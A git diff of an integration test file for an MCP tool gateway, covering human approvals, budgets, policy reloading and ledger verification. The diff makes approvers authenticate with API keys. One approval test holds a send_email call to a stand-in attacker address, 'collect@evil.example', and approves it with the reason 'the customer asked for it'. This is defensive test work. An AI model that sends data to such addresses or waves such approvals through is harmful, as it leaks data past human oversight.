@@ -9,7 +9,9 @@ import type { McpServer } from '@modelcontextprotocol/server';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { z } from 'zod';
 import { keepingContext } from '../../src/app/commands/ledger/fixtures/real-ledger.ts';
+import { runKeyCreate } from '../../src/app/commands/gateway/key-run.ts';
 import { runLedgerVerify } from '../../src/app/commands/ledger/verify-run.ts';
+import { approverScope } from '../../src/store/approvals/approver.ts';
 import type { Envelope } from '../../src/model/event.ts';
 import { eventsOf, type MadeServer, makeServer, type WholeGateway, wholeGateway } from './whole.ts';
 
@@ -59,9 +61,10 @@ beforeAll(async () => {
       'policies: provenance',
       'budgets:',
       '  budgets: [{name: deletes, unit: calls, limit: 2, per: [run], tools: ["tickets/delete_ticket"]}]',
-      'approvals: {roles: [approver], four-eyes: false, wait-ms: 0}',
+      'approvals: {roles: [approver], wait-ms: 0}',
       'identity:',
-      '  anonymous: {agent: local, roles: [approver]}',
+      '  anonymous: {agent: local}',
+      '  api-keys: {directory: keys}',
       'servers:',
       ...Object.entries(made).map(([name, { url }]) => `  ${name}: {url: "${url}", eras: [stateless]}`),
     ].join('\n'),
@@ -71,6 +74,19 @@ afterAll(async () => {
   for (const server of Object.values(made)) server.close();
   whole.remove();
 });
+
+/** A key of a person who may approve. */
+async function approverKey(): Promise<string> {
+  const context = keepingContext();
+  const flags = {
+    agent: 'console',
+    role: ['approver', approverScope],
+    person: 'boss',
+    directory: join(whole.folder, 'keys'),
+  };
+  await runKeyCreate(context, flags as unknown as Parameters<typeof runKeyCreate>[1]);
+  return context.out.join('').trim();
+}
 
 const run = (name: string): Readonly<Record<string, string>> => ({ 'demarc-run': name });
 const call = (client: Client, name: string, args: Record<string, unknown>): ReturnType<Client['callTool']> =>
@@ -122,16 +138,16 @@ describe('G29: approvals', () => {
     const sending = await whole.client('mail', run('approval'));
     const args = { to: 'collect@evil.example', body: 'approved' };
     await call(sending, 'send_email', args).catch(() => undefined);
-    const list = (await (
-      await fetch(`${whole.origin}/approvals`, { headers: { accept: 'application/json' } })
-    ).json()) as {
+    const authorization = `Bearer ${await approverKey()}`;
+    const asked = await fetch(`${whole.origin}/approvals`, { headers: { accept: 'application/json', authorization } });
+    const list = (await asked.json()) as {
       approvals: { id: string; args: unknown; argsDigest: string; state: string }[];
     };
     const waiting = list.approvals.find((one) => JSON.stringify(one.args) === JSON.stringify(args));
     expect(waiting?.state).toBe('pending');
     const answer = await fetch(`${whole.origin}/approvals/${waiting?.id}`, {
       method: 'POST',
-      headers: { 'content-type': 'application/json', accept: 'application/json', origin: whole.origin },
+      headers: { 'content-type': 'application/json', accept: 'application/json', origin: whole.origin, authorization },
       body: JSON.stringify({
         decision: 'approve',
         reason: 'the customer asked for it',
@@ -189,35 +205,39 @@ describe('G30: budgets', () => {
 });
 
 describe('G36: configuration', () => {
-  it('policies that do not load leave the last good ones, and say so', async () => {
-    const own = await wholeGateway(
-      `policies: policies\nservers:\n  tickets: {url: "${made.tickets.url}", eras: [stateless]}`,
-      {},
-    ).catch(String);
-    expect(own).toContain('policies');
-    const folder = await wholeGateway(
-      `policies: {set: .}\nservers:\n  tickets: {url: "${made.tickets.url}", eras: [stateless]}`,
-      { 'a.cedar': '@id("all") permit (principal, action, resource);' },
-    );
-    const before = folder.gateway.policySet;
-    writeFileSync(
-      join(folder.folder, 'a.cedar'),
-      'permit (principal, action == Demarc::Action::"tickets/nope", resource);',
-    );
-    expect(folder.gateway.reload()).toBe(false);
-    expect(folder.told.at(-1)).toMatch(/policies stay as they were/);
-    const client = await folder.client('tickets');
-    expect((await call(client, 'get_ticket', { id: 1 })).isError).not.toBe(true);
-    writeFileSync(
-      join(folder.folder, 'a.cedar'),
-      '@id("none") @reason("test.none") forbid (principal, action, resource);',
-    );
-    expect(folder.gateway.reload()).toBe(true);
-    expect(await call(client, 'get_ticket', { id: 1 }).catch(String)).toMatch(/Unknown tool|not found/i);
-    expect(before).not.toBe('');
-    await folder.close();
-    folder.remove();
-  }, openMs);
+  it(
+    'policies that do not load leave the last good ones, and say so',
+    async () => {
+      const own = await wholeGateway(
+        `policies: policies\nservers:\n  tickets: {url: "${made.tickets.url}", eras: [stateless]}`,
+        {},
+      ).catch(String);
+      expect(own).toContain('policies');
+      const folder = await wholeGateway(
+        `policies: {set: .}\nservers:\n  tickets: {url: "${made.tickets.url}", eras: [stateless]}`,
+        { 'a.cedar': '@id("all") permit (principal, action, resource);' },
+      );
+      const before = folder.gateway.policySet;
+      writeFileSync(
+        join(folder.folder, 'a.cedar'),
+        'permit (principal, action == Demarc::Action::"tickets/nope", resource);',
+      );
+      expect(folder.gateway.reload()).toBe(false);
+      expect(folder.told.at(-1)).toMatch(/policies stay as they were/);
+      const client = await folder.client('tickets');
+      expect((await call(client, 'get_ticket', { id: 1 })).isError).not.toBe(true);
+      writeFileSync(
+        join(folder.folder, 'a.cedar'),
+        '@id("none") @reason("test.none") forbid (principal, action, resource);',
+      );
+      expect(folder.gateway.reload()).toBe(true);
+      expect(await call(client, 'get_ticket', { id: 1 }).catch(String)).toMatch(/Unknown tool|not found/i);
+      expect(before).not.toBe('');
+      await folder.close();
+      folder.remove();
+    },
+    openMs,
+  );
 
   it.each([
     ['an unknown key', 'polices: open\nservers: {a: {url: "https://a.example"}}', /polices/],
@@ -247,7 +267,9 @@ describe('G35: the record', () => {
     expect(events.some(({ kind }) => kind === 'approval')).toBe(true);
     const context = keepingContext();
     const folder = join(whole.folder, 'state', 'ledger');
-    expect(await runLedgerVerify(context, { format: 'terminal' } as Parameters<typeof runLedgerVerify>[1], folder)).toBe(0);
+    expect(
+      await runLedgerVerify(context, { format: 'terminal' } as Parameters<typeof runLedgerVerify>[1], folder),
+    ).toBe(0);
   });
 
   it('each call that had an effect was recorded before its answer, and nothing of it is in clear', () => {
